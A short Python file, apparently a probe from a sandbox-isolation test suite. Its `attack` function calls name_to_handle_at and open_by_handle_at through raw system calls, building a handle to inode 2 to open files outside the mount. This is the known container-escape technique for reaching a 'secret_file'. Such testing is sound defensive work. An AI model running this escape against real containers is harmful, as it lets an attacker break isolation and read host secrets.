import ctypes

from common import gained, system_call


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("raw", ctypes.c_ubyte * 128)]


def attack(facts):
    """Open a file by its number, whatever is mounted."""

    def name():
        handle, mount = Handle(size=128), ctypes.c_int()
        return system_call(303, -100, facts["secret_file"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0)

    def by_number():
        handle = Handle(size=8, kind=1)
        handle.raw[0] = 2
        return system_call(304, -100, ctypes.byref(handle), 0)

    return gained(name=name, by_number=by_number)
